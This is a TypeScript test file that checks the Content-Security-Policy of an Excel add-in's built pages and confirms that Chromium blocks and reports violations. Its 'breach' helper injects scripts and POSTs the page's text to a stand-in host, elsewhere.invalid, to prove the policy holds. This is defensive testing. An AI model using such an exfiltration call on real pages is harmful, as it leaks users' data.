/** What the built pages allow themselves: their content security policies as text, and that Chromium upholds them and tells when they are breached, as every other test here relies on. */
import { readFileSync } from 'node:fs';
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { makeDemoWorkbooks } from '../../scripts/generate/demo-workbooks';
import { launchChromium } from '../../scripts/generate/launch-chromium';
import type { ServedFolder } from '../../scripts/serve-folder';
import { openInExcel } from '../excel-host/open-in-excel';
import { openPane, servePane } from './open-pane';

const OFFICE = 'https://appsforoffice.microsoft.com';

let browser: Browser;
let served: ServedFolder;
beforeAll(async () => {
  served = await servePane();
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
  await served.close();
});

/** The tags of a built page with this name, as `name="value"` pairs. */
function tagsOf(html: string, name: string): readonly (ReadonlyMap<string, string>)[] {
  return [...html.matchAll(new RegExp(`<${name}\\b([^>]*)>`, 'g'))].map(([, attributes = '']) => new Map([...attributes.matchAll(/([\w-]+)(?:="([^"]*)"|=([^\s"]+))?/g)].map(([, key = '', quoted, bare]) => [key, quoted ?? bare ?? ''])));
}

test.each([
  ['index', []],
  ['taskpane', [OFFICE]],
] as const)('%s.html runs scripts of files only, and of no origin but its own and %j', (name, others) => {
  const html = readFileSync(`dist/addin/${name}.html`, 'utf8');
  const policies = tagsOf(html, 'meta').filter((meta) => meta.get('http-equiv') === 'Content-Security-Policy').map((meta) => meta.get('content') ?? '');
  expect(policies).toHaveLength(1);
  const directives = new Map((policies[0] ?? '').split(';').map((directive) => directive.trim().split(/\s+/)).map(([key = '', ...sources]) => [key, sources]));
  expect(directives.get('default-src')).toEqual(["'none'"]);
  expect(directives.get('script-src')).toEqual(["'self'", ...others]);
  expect(directives.get('connect-src')).toEqual(["'self'", ...others]);
  expect(directives.get('base-uri')).toEqual(["'none'"]);
  expect(directives.get('form-action')).toEqual(["'none'"]);
  // Before whatever it is to hold for.
  expect(html.search(/<(?:script|link|style)\b/)).toBeGreaterThan(html.indexOf('Content-Security-Policy'));
  const scripts = tagsOf(html, 'script');
  expect(scripts.length).toBeGreaterThan(0);
  expect(html.match(/<script\b[^>]*>[^<]/g)).toBeNull();
  expect(scripts.map((script) => script.get('src') ?? 'inline').filter((source) => !/^[\w-]+\.js$/.test(source) && !others.some((origin) => source.startsWith(`${origin}/`)))).toEqual([]);
  expect(html).not.toMatch(/\son\w+\s*=|javascript:/i);
});

/** Does what an intruder would: a script in the page itself, a script from elsewhere, and a request to elsewhere. */
const breach = (page: Page | Frame): Promise<string> => page.evaluate(async () => {
  const inline = document.createElement('script');
  inline.textContent = 'document.title = "breached"';
  const foreign = document.createElement('script');
  foreign.src = 'https://elsewhere.invalid/script.js';
  document.head.append(inline, foreign);
  await fetch('https://elsewhere.invalid/collect', { method: 'POST', body: document.body.innerText }).catch(() => undefined);
  return document.title;
});
const REFUSED = ['policy: script-src-elem inline', 'policy: script-src-elem https://elsewhere.invalid/script.js', 'policy: connect-src https://elsewhere.invalid/collect'];

test('the browser page refuses what its policy forbids, and the refusal is noticed', async () => {
  const { page, complaints, close } = await openPane(browser, served);
  expect(complaints).toEqual([]);
  expect(await breach(page)).toBe('Streefpeil');
  await expect.poll(() => complaints).toEqual(expect.arrayContaining(REFUSED));
  await close();
});

test('so does the pane in Excel, and it works where storage is refused', async () => {
  const context = await browser.newContext();
  await context.addInitScript(() => {
    for (const storage of ['localStorage', 'sessionStorage']) Object.defineProperty(window, storage, { get: () => { throw new DOMException('denied', 'SecurityError'); } });
  });
  const { pane, complaints, stray } = await openInExcel(context, { bytes: makeDemoWorkbooks().broken2016, name: 'plan.xlsx', locale: 'nl-BE' });
  await pane.locator('.outcome', { hasText: '4 fouten' }).waitFor();
  await pane.locator('.tabs').getByRole('tab', { name: 'Instellingen' }).click();
  await pane.getByRole('combobox', { name: 'Kleuren' }).selectOption('dark');
  expect(await pane.locator('html').getAttribute('data-theme')).toBe('dark');
  await pane.getByText('De browser bewaart geen instellingen').waitFor();
  expect(complaints.filter((complaint) => complaint.startsWith('policy:'))).toEqual([]);
  expect(await breach(pane)).toBe('Streefpeil');
  await expect.poll(() => complaints).toEqual(expect.arrayContaining(REFUSED));
  expect(stray).toEqual([]);
  await context.close();
});
